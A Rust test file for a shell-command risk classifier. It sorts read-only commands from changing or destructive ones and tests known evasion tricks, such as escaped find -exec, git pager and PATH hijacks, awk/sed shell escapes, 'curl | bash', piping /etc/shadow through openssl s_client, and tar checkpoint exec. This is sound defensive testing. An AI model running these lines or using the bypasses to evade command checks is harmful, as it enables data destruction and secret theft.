//! Tables of command lines: what only looks, and the traps that judgements of commands fell into.

use std::collections::BTreeMap;

use rstest::rstest;

use super::*;
use crate::domain::action::grammar::{self, Parsed};
use crate::domain::action::spec::{Origin, Piece};
use crate::domain::procedure::params::{self, BoundFrom};

/// The risk of a command line and the reasons; what is outside the grammar goes through bash.
fn judge(line: &str) -> (Risk, Vec<String>) {
    let invocation = match grammar::parse(line, &[], &BTreeMap::new()) {
        Ok(Parsed::Argv(script)) => Invocation::Argv { script },
        Ok(Parsed::Outside { reason }) => Invocation::Bash { script: line.to_owned(), reason, values: BTreeMap::new() },
        Err(error) => panic!("{line}: {error}"),
    };
    classify(&invocation)
}

/// Lines that only look.
const READS: &[&str] = &[
    "kubectl delete pod x --dry-run=client --dry-run=server",
    "helm uninstall x --dry-run=true",
    "helm install x y --dry-run",
    "apt-get -s install x",
    "cat x | xargs -n1 ls -l",
    "cat x | xargs -I{} wc -l /srv/{}",
    "echo /srv /var | xargs du -sh",
    "echo a | xargs uniq",
    "find . -exec openssl x509 -noout -in {} \\;",
    "parallel ls ::: a b",
    "etcdctl watch x",
    "df -h",
    "df -hT /srv",
    "/bin/df -h",
    "/usr/bin/df --output=pcent /srv",
    "df -hP | sort -k5 -rn | head -5",
    "du -xh --max-depth=1 /srv",
    "du -sh /var/log",
    "du -xh --max-depth=1 /var | sort -rh | head -n 20",
    "ls -la /var/log",
    "ls -lt --time-style=full-iso",
    "cat /etc/hosts",
    "cat -n /proc/meminfo",
    "head -n 20 /var/log/syslog",
    "head -20 x",
    "tail -n 100 /var/log/syslog",
    "tail -c +10 x",
    "tail -n+5 x",
    "stat -c '%s %n' x",
    "wc -l x",
    "grep -rn error /var/log",
    "grep -E 'a|b' x",
    "grep -A3 -B3 -i panic x",
    "grep -c ^processor /proc/cpuinfo",
    "grep -e /dev/sda x",
    "grep /dev/sda /etc/fstab",
    "egrep 'x|y' f",
    "fgrep x f",
    "sort -k2 -t, x",
    "sort -u",
    "uniq -c",
    "cut -d: -f1 /etc/passwd",
    "tr a-z A-Z",
    "echo hello",
    "printf '%s' a",
    "true",
    "false",
    "test -f /x",
    "basename /a/b",
    "dirname /a/b",
    "readlink -f /x",
    "realpath x",
    "md5sum x",
    "sha256sum x",
    "sha256sum -c sums",
    "jq '.items[] | .name' x.json",
    "jq -r --arg a b .x",
    "diff -u a b",
    "file -b x",
    "zcat x.gz",
    "pwd",
    "find /srv -xdev -type f -name '*.log.[0-9]*' -size +100k -printf '%s %TY-%Tm-%Td %p\\n'",
    "find . -maxdepth 2 -mtime +7 -ls",
    "find / -xdev \\( -name core -o -name '*.dump' \\) -print",
    "find . ! -name x -newer y",
    "find",
    "find -L /a /b -empty",
    "free -m",
    "uptime",
    "uname -a",
    "hostname",
    "hostname -f",
    "hostname -I",
    "date",
    "date -u",
    "date -d @1700000000 +%s",
    "date +%Y-%m-%d",
    "date --date=yesterday",
    "id root",
    "who -a",
    "w",
    "last -n 20",
    "last -20",
    "ps aux",
    "ps -ef",
    "ps -eo pid,rss,comm --sort=-rss | head",
    "pgrep -af nginx",
    "top -b -n 1",
    "top -bn1 | head -n 20",
    "free -h",
    "ss -tlnp",
    "ss -s",
    "ss -tan state established",
    "netstat -tlnp",
    "ip addr",
    "ip a",
    "ip -br addr show",
    "ip -s link show dev eth0",
    "ip route get 10.0.0.1",
    "ip route",
    "ip neigh show",
    "lsof -nP -i :80",
    "lsof +D /srv",
    "lsof +L1",
    "lsof -p 42",
    "lsblk -f",
    "findmnt /srv",
    "mount",
    "mount -l",
    "dmesg -T",
    "dmesg --level=err,warn",
    "dmesg -T | grep -i oom",
    "journalctl -u nginx -n 100 --no-pager",
    "journalctl -xe --no-pager",
    "journalctl --since '1 hour ago' -p err",
    "journalctl -b -1 -k",
    "journalctl --disk-usage",
    "journalctl _PID=1",
    "systemctl status nginx",
    "systemctl --no-pager -l status nginx",
    "systemctl is-active nginx",
    "systemctl is-failed nginx",
    "systemctl list-units --failed",
    "systemctl list-timers --all",
    "systemctl cat nginx",
    "systemctl show -p MainPID nginx",
    "systemctl --failed",
    "kubectl get pods",
    "kubectl -n prod get pods -o wide",
    "kubectl get pod x -o yaml",
    "kubectl get pod x -o=json",
    "kubectl get pods -A --field-selector status.phase=Pending",
    "kubectl get po -o 'jsonpath={.items[*].metadata.name}'",
    "kubectl get events --sort-by=.lastTimestamp -n prod",
    "kubectl describe node n1",
    "kubectl logs -n prod x -c app --previous --tail=100",
    "kubectl logs deploy/x --since=1h",
    "kubectl top pods -n prod",
    "kubectl top node",
    "kubectl --context=eu get nodes",
    "kubectl version",
    "kubectl explain pod.spec",
    "kubectl api-resources",
    "kubectl rollout history deploy/x",
    "kubectl rollout status deploy/x --watch=false",
    "kubectl rollout status deploy/x --timeout=30s",
    "kubectl config current-context",
    "oc get pods -n x",
    "oc adm top nodes",
    "docker ps -a",
    "docker ps --filter name=x",
    "docker logs --tail 100 x",
    "docker inspect -f '{{.State.Status}}' x",
    "docker images",
    "docker stats --no-stream",
    "docker container ls",
    "docker system df",
    "docker top x",
    "openssl x509 -in /etc/ssl/x.pem -noout -enddate",
    "openssl x509 -noout -text -in x",
    "openssl s_client -connect web:443 -servername web",
    "echo | openssl s_client -connect web:443 2>/dev/null | openssl x509 -noout -dates",
    "echo Q | openssl s_client -connect web:443",
    "openssl version",
    "dig +short example.org",
    "dig @10.0.0.1 -t MX example.org",
    "nslookup example.org",
    "nslookup -type=mx example.org",
    "host example.org",
    "getent hosts web-1",
    "ping -c 3 web-1",
    "traceroute -n web-1",
    "curl -s http://localhost:9090/-/healthy",
    "curl -sS -o /dev/null -w '%{http_code}\\n' https://web-1/x",
    "curl -I https://web-1",
    "curl -sSfL --max-time 5 https://web-1",
    "curl -X GET https://web-1",
    "curl -H 'Host: a' http://10.0.0.1/",
    "curl -s http://x/metrics | grep up",
    "promtool query instant http://p:9090 'up == 0'",
    "promtool check config /etc/prometheus/prometheus.yml",
    "amtool alert query --alertmanager.url=http://a:9093",
    "amtool silence query --alertmanager.url http://a:9093",
    "nproc",
    "vmstat 1 5",
    "vmstat",
    "iostat -xz 1 3",
    "iostat",
    "sar -u 1 5",
    "sar -n DEV",
    "sysctl -n vm.swappiness",
    "timedatectl",
    "hostnamectl status",
    "sleep 5",
    "ls x 2>/dev/null || echo missing",
    "cat /dev/null",
    "tail -f x",
    "tail -F x",
    "tail -n 10 -f x",
    "tail -fn10 x",
    "tail --follow=name x",
    "tail --retry x",
    "sort -T /tmp x",
    "dmesg -w",
    "journalctl -f",
    "journalctl -u x -f",
    "journalctl -fu x",
    "systemctl -H web-1 status",
    "ss -E",
    "lsof -r 1",
    "top",
    "top -b",
    "vmstat 1",
    "iostat 5",
    "sar 1",
    "free -s 1",
    "sleep infinity",
    "kubectl exec x -- ls",
    "kubectl get --raw /api/v1/x",
    "kubectl get secrets",
    "kubectl get secret x -o yaml",
    "kubectl get pods,secrets",
    "kubectl get Secret/x",
    "kubectl describe secret x",
    "kubectl get -f x.yaml",
    "kubectl get pods -w",
    "kubectl get pods --watch",
    "kubectl get --watch false pods",
    "kubectl get pods -o custom-columns-file=x",
    "kubectl logs -f x",
    "kubectl logs --follow x",
    "kubectl rollout status deploy/x",
    "kubectl config view --raw",
    "oc whoami -t",
    "docker exec x ls",
    "docker -H tcp://x ps",
    "docker logs -f x",
    "docker stats",
    "podman ps",
    "dig -f x",
    "ping web-1",
    "curl file:///etc/passwd",
    "curl ftp.example.org",
    "curl -u a:b http://x",
    "curl --unix-socket /var/run/docker.sock http://x",
    "awk '{print}' x",
    "sed -n 1p x",
    "env A=b ls",
    "env",
    "sudo df -h",
    "timeout 5 df",
    "nice df",
    "watch df",
    "git status",
    "ssh web-1 df",
    "psql -c 'select 1'",
    "less x",
    "sh -c df",
    "bash -c df",
    "nc web-1 80",
];

/// Lines that are more than a read, or may be.
const MORE: &[&str] = &[
    "rm -rf /srv/x",
    "./cat x",
    "/tmp/cat x",
    "bin/cat x",
    "/usr/bin/../../tmp/cat x",
    "/usr/local/bin/cat x",
    "CAT x",
    "df -h && rm x",
    "df -h; reboot",
    "df -h | sh",
    "true || reboot",
    "find . -exec rm {} +",
    "find . -delete",
    "find -e\\xec rm \\;",
    "find . -ok rm \\;",
    "find . -execdir rm \\;",
    "find . -fprint x",
    "find . -fprintf x %p",
    "find . -fls x",
    "find . -name",
    "find . -name x -delete",
    "find . {-exec,id,\\;}",
    "find -files0-from x",
    "cat /dev/sda",
    "cat /tmp/../dev/zero",
    "cat //dev/./tty",
    "cat dev/sda",
    "cat /proc/kmsg",
    "head -c 10 /dev/urandom",
    "grep x /dev/sda",
    "grep -e x /dev/sda",
    "wc -c /dev/zero",
    "cat --unknown x",
    "sort -o x y",
    "sort -ro x y",
    "sort --output=x y",
    "sort --outp=x y",
    "sort --compress-program=sh x",
    "uniq a b",
    "file -C -m x",
    "date -s 2020-01-01",
    "date --set=2020-01-01",
    "date --se=2020-01-01",
    "date 010100002020",
    "hostname web-9",
    "hostname -F x",
    "hostnamectl set-hostname x",
    "timedatectl set-time 10:00",
    "dmesg -c",
    "dmesg -C",
    "dmesg -Tc",
    "dmesg -n 1",
    "dmesg --clear",
    "journalctl --vacuum-size=1G",
    "journalctl --rotate",
    "journalctl --flush",
    "journalctl --cursor-file=x",
    "systemctl restart nginx",
    "systemctl stop nginx",
    "systemctl edit nginx",
    "systemctl daemon-reload",
    "systemctl --now disable nginx",
    "systemctl set-property x y",
    "mount /dev/sda1 /mnt",
    "mount -a",
    "mount -o remount,rw /",
    "sysctl -w vm.swappiness=1",
    "sysctl vm.swappiness=1",
    "sysctl -p",
    "ss -K dst 10.0.0.1",
    "ss -Z -K dst 10.0.0.1",
    "ss -D x",
    "ip link set eth0 down",
    "ip addr add 10.0.0.1/8 dev eth0",
    "ip route flush all",
    "ip route del default",
    "ip -b file",
    "ip netns exec x sh",
    "lsof -D b",
    "sar -o x 1 5",
    // A dry run that is taken back, and what is done besides it.
    "kubectl delete pod x --dry-run=server --dry-run=none",
    "kubectl delete pod x --dry-run=client --dry-run=false",
    "kubectl taint node x a=b:NoSchedule --dry-run=client --dry-run=none",
    "kubectl create job x --image=y --dry-run=client --dry-run none",
    "kubectl label pod x a=b --list=false",
    "helm install x y --dry-run=none",
    "helm upgrade x y --dry-run=client --dry-run=none",
    "helm rollback x --dry-run=false",
    "helm uninstall x --dry-run=false",
    "terraform fmt -check=false",
    "terraform fmt -write=false -write=true",
    "aws ec2 terminate-instances --instance-ids i-1 --dry-run --no-dry-run",
    "mdadm --detail --stop /dev/md0",
    "rsync -n --log-file=/etc/x a b",
    "rsync -n --write-batch=/etc/x a b",
    "parted -l /dev/sda rm 1",
    // Words that are only known when it runs, as options and as code.
    "cat x | xargs sort",
    "cat x | xargs find .",
    "cat x | xargs sed",
    "cat x | xargs journalctl",
    "cat x | xargs dmesg",
    "cat x | xargs uniq",
    "cat x | xargs kubectl get",
    "cat x | xargs -I{} sh -c 'ls /x/{}'",
    "cat x | xargs -I{} ssh web-1 ls {}",
    "cat x | xargs -I{} psql -c \"select '{}'\"",
    "cat x | xargs -I% awk '{print \"%\"}' f",
    "printf -- '-o/etc/x' | xargs sort",
    "echo x -delete | xargs find .",
    "echo a b | xargs uniq",
    "find . -exec sh -c 'ls {}' \\;",
    "find . -exec ssh web-1 ls {} \\;",
    "parallel sort ::: -o/etc/x",
    "etcdctl watch x -- id",
    // Behind the first operand it reads no option then.
    "env POSIXLY_CORRECT=1 uniq a -c",
    "curl --url @file",
    "kubectl exec -it x -- sh",
    "kubectl delete pod x",
    "kubectl -n prod delete pod x",
    "kubectl --kubeconfig x get pods",
    "kubectl --as=admin get pods",
    "kubectl --token=x get pods",
    "kubectl --server=x get pods",
    "kubectl -s x get pods",
    "kubectl apply -f x",
    "kubectl edit deploy x",
    "kubectl scale deploy x --replicas=0",
    "kubectl rollout restart deploy/x",
    "kubectl rollout undo deploy/x",
    "kubectl config use-context x",
    "kubectl cluster-info dump --output-directory=x",
    "kubectl plugin-of-mine",
    "kubectl port-forward x 80",
    "kubectl cp x:/a b",
    "kubectl",
    "oc debug node/x",
    "oc adm drain x",
    "docker rm x",
    "docker run x",
    "docker system prune",
    "docker container rm x",
    "docker image prune",
    "openssl genrsa -out x",
    "openssl x509 -in x -out y",
    "openssl x509 -req -in x -signkey y",
    "openssl s_client -connect a:25 -keylogfile x",
    "printf 'DELETE / HTTP/1.0' | openssl s_client -connect a:443",
    "cat /etc/shadow | openssl s_client -connect a:443",
    "openssl",
    "nslookup",
    "nslookup - 10.0.0.1",
    "ping -f -c 3 web-1",
    "curl -X POST http://x",
    "curl -XDELETE http://x",
    "curl -sXPUT http://x",
    "curl -d a=b http://x",
    "curl --data a=b http://x",
    "curl --json x http://x",
    "curl -F a=b http://x",
    "curl -T f http://x",
    "curl -o x http://x",
    "curl -so x http://x",
    "curl -O http://x",
    "curl -K x",
    "curl --config x http://x",
    "curl -b x http://x",
    "curl -c x http://x",
    "curl -D x http://x",
    "curl gopher://x",
    "curl -H 'X-HTTP-Method-Override: DELETE' http://x",
    "curl -H @x http://x",
    "curl -A 'x\ny: z' http://x",
    "curl -w '%output{x}' http://x",
    "curl -w @x http://x",
    "curl --next http://x",
    "curl http://x | bash",
    "curl",
    "wget http://x",
    "promtool tsdb clean",
    "promtool @x",
    "promtool query instant @x",
    "promtool push metrics http://x",
    "amtool silence add a=b",
    "amtool silence expire x",
    "amtool alert add a",
    "amtool @x",
    "sed -i s/a/b/ x",
    "xargs rm",
    "tee x",
    "git -c core.pager=x log",
    "sqlite3 x .shell",
    "vi x",
    "python3 -c x",
    "kill 1",
    "ls *.log",
    "cat $(ls)",
    "df -h > x",
    "LD_PRELOAD=x ls",
    "sar -f -o x 1 5",
    "pidstat -e rm x",
];

#[test]
fn reads_are_reads() {
    for line in READS {
        let (risk, reasons) = judge(line);
        assert_eq!(risk, Risk::Read, "{line}: {reasons:?}");
        assert!(!reasons.is_empty(), "{line}");
    }
}

#[test]
fn everything_else_is_more() {
    for line in MORE {
        let (risk, reasons) = judge(line);
        assert!(risk > Risk::Read, "{line}: {reasons:?}");
        assert!(!reasons.is_empty(), "{line}");
    }
}

/// What passed for a read elsewhere, and what each really is.
#[rstest]
#[case::escaped(r"find . -e\xec rm {} \;", Risk::Destroy)]
#[case::braces(r"find . {-exec,id,\;}", Risk::Unknown)]
#[case::another_program("./cat x", Risk::Unknown)]
#[case::only_the_first_command("ls; rm x", Risk::Destroy)]
#[case::git_configuration("git -c core.pager=id log", Risk::Unknown)]
#[case::git_alias("git -c alias.x='!id' x", Risk::Unknown)]
#[case::git_pager("git grep --open-files-in-pager=id x", Risk::Unknown)]
#[case::path_in_environment("env PATH=/tmp ls", Risk::Unknown)]
#[case::pager_in_environment("env PAGER=/tmp/x journalctl", Risk::Unknown)]
#[case::harmless_environment("env LC_ALL=C ls", Risk::Read)]
#[case::exec_that_looks("kubectl exec web-0 -- df -h", Risk::Read)]
#[case::exec_that_removes("kubectl exec web-0 -- rm -rf /data", Risk::Destroy)]
#[case::exec_of_a_shell("kubectl exec -it web-0 -- sh", Risk::Unknown)]
#[case::exec_of_anything("kubectl exec web-0 -- /opt/x", Risk::Unknown)]
#[case::raw_read("kubectl get --raw /metrics", Risk::Read)]
#[case::raw_delete("kubectl delete --raw /api/v1/namespaces/x", Risk::Destroy)]
#[case::raw_create("kubectl create --raw /api/v1/x -f y", Risk::Unknown)]
#[case::impersonation("kubectl --as=admin get pods", Risk::Unknown)]
#[case::other_configuration("kubectl --kubeconfig=/tmp/x get pods", Risk::Unknown)]
#[case::other_server("kubectl --server=https://x get pods", Risk::Unknown)]
#[case::debug_without_command("oc debug node/x", Risk::Unknown)]
#[case::debug_that_reboots("oc debug node/x -- chroot /host reboot", Risk::Destroy)]
#[case::awk_system("awk '{system($0)}' x", Risk::Unknown)]
#[case::awk_pipe("awk '{print | \"sh\"}' x", Risk::Unknown)]
#[case::awk_file("awk '{print > \"/tmp/x\"}' x", Risk::Change)]
#[case::sed_e("sed 's/a/b/e' x", Risk::Unknown)]
#[case::sed_w("sed 'w /tmp/x' y", Risk::Change)]
#[case::sed_in_place("sed -i s/a/b/ x", Risk::Change)]
#[case::xargs_that_removes("ls | xargs rm", Risk::Destroy)]
#[case::xargs_that_looks("ls | xargs wc -l", Risk::Read)]
#[case::xargs_of_anything("ls | xargs sudo", Risk::Unknown)]
#[case::tee("df | tee /tmp/x", Risk::Change)]
#[case::editor("systemctl edit nginx", Risk::Change)]
#[case::psql_function("psql -c 'select pg_terminate_backend(1)'", Risk::Destroy)]
#[case::psql_sequence("psql -c \"select nextval('x')\"", Risk::Change)]
#[case::psql_large_object("psql -c 'select lo_unlink(1)'", Risk::Destroy)]
#[case::psql_other_database("psql -c \"select dblink('x', 'y')\"", Risk::Unknown)]
#[case::psql_program("psql -c \"copy t to program 'x'\"", Risk::Unknown)]
#[case::psql_shell("psql -c '\\! id'", Risk::Unknown)]
#[case::psql_file("psql -f x.sql", Risk::Unknown)]
#[case::sqlite_shell("sqlite3 x.db '.shell id'", Risk::Unknown)]
#[case::man_pager("man -P id ls", Risk::Unknown)]
#[case::less_keys("less -k x y", Risk::Unknown)]
#[case::curl_method("curl -X DELETE http://x/y", Risk::Destroy)]
#[case::curl_body("curl -d a=b http://x/y", Risk::Unknown)]
#[case::curl_upload("curl -T f http://x/y", Risk::Unknown)]
#[case::curl_file("curl -o f http://x/y", Risk::Change)]
#[case::namespace("ip netns exec blue rm -rf /x", Risk::Destroy)]
#[case::namespace_that_looks("ip netns exec blue ss -tln", Risk::Read)]
#[case::tar_command("tar -xf a.tar --to-command=sh", Risk::Unknown)]
#[case::tar_checkpoint("tar -tf a.tar --checkpoint=1 --checkpoint-action=exec=id", Risk::Unknown)]
#[case::rsync_shell("rsync -e 'sh -c id' -n a:/ b", Risk::Unknown)]
#[case::ssh_option("ssh -o ProxyCommand=id web-1 df", Risk::Unknown)]
#[case::ssh_that_removes("ssh web-1 'df -h; rm -rf /srv'", Risk::Destroy)]
#[case::shell_in_shell("bash -c \"sh -c 'rm -rf /srv'\"", Risk::Destroy)]
#[case::abbreviation("kubectl --kubecon=/tmp/x get pods", Risk::Unknown)]
fn traps(#[case] line: &str, #[case] expected: Risk) {
    let (risk, reasons) = judge(line);
    assert_eq!(risk, expected, "{line}: {reasons:?}");
}

#[test]
fn one_bad_stage_decides_and_is_named() {
    let (risk, reasons) = judge("df -h | tee x | wc -l");
    assert_eq!(risk, Risk::Change);
    assert_eq!(reasons, ["df only looks", "tee: it writes x", "wc only looks"]);
}

#[test]
fn reasons_name_the_word() {
    assert_eq!(judge("find . -delete").1, ["find: -delete removes what is found"]);
    assert_eq!(judge("df --strange").1, ["df: --strange is not among the arguments that are known"]);
}

/// Judges a line with parameters: those in `labels` come from an alert, those in `typed` from the keyboard.
fn judge_with(line: &str, labels: &[(&str, &str)], typed: &[(&str, &str)]) -> (Risk, Vec<String>) {
    let map = |pairs: &[(&str, &str)]| -> BTreeMap<String, String> {
        pairs.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect()
    };
    let uses = params::find(line);
    let origin = |from: &BoundFrom| match from {
        BoundFrom::Label(name) => Some(Origin::Label(name.clone())),
        BoundFrom::Operator => Some(Origin::Operator),
        BoundFrom::Unbound => None,
    };
    let values = params::bind(&uses, &map(labels), &map(typed))
        .into_iter()
        .filter_map(|binding| Some((binding.name, Piece { text: binding.value?, origin: origin(&binding.from)? })));
    match grammar::parse(line, &uses, &values.collect()) {
        Ok(Parsed::Argv(script)) => classify(&Invocation::Argv { script }),
        other => panic!("{line}: {other:?}"),
    }
}

/// Whoever sends an alert must not choose whom a harmless command asks.
#[rstest]
#[case("curl -sS http://<instance>/metrics", Risk::Unknown)]
#[case("curl -sS http://localhost:9090/<instance>", Risk::Unknown)]
#[case("curl -sS -H 'Host: <instance>' http://localhost/", Risk::Unknown)]
#[case("dig +short <instance>", Risk::Unknown)]
#[case("dig @<instance> example.org", Risk::Unknown)]
#[case("host <instance>", Risk::Unknown)]
#[case("nslookup <instance>", Risk::Unknown)]
#[case("ping -c 3 <instance>", Risk::Unknown)]
#[case("tracepath <instance>", Risk::Unknown)]
#[case("traceroute <instance>", Risk::Unknown)]
#[case("getent hosts <instance>", Risk::Unknown)]
#[case("openssl s_client -connect <instance>:443", Risk::Unknown)]
#[case("openssl x509 -noout -enddate -in <instance>", Risk::Read)]
#[case("promtool query instant http://<instance> up", Risk::Unknown)]
#[case("promtool query instant http://p:9090 'up{instance=\"<instance>\"}'", Risk::Read)]
#[case("promtool query series --match=up http://<instance>", Risk::Unknown)]
#[case("promtool check healthy --url=http://<instance>", Risk::Unknown)]
#[case("promtool check config <instance>", Risk::Read)]
#[case("amtool alert query --alertmanager.url=http://<instance>", Risk::Unknown)]
#[case("grep <instance> /etc/hosts", Risk::Read)]
#[case("du -sh /srv/<instance>", Risk::Read)]
fn values_from_outside_do_not_choose_a_host(#[case] line: &str, #[case] expected: Risk) {
    for (labels, typed) in [(&[("instance", "web-1")][..], &[][..]), (&[], &[("instance", "web-1")])] {
        let (risk, reasons) = judge_with(line, labels, typed);
        assert_eq!(risk, expected, "{line}: {reasons:?}");
    }
}
